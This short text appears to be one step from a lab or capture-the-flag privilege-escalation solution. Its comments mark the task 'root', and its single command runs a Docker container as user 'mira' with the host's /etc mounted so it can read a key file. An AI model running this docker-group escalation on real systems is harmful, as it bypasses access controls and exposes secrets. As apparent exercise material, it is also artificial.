# task: root
# hint: kept
# after: 3
su - mira -c 'docker run --rm --name proof -v /etc:/host busybox:1.37 cat /host/harbour.key'
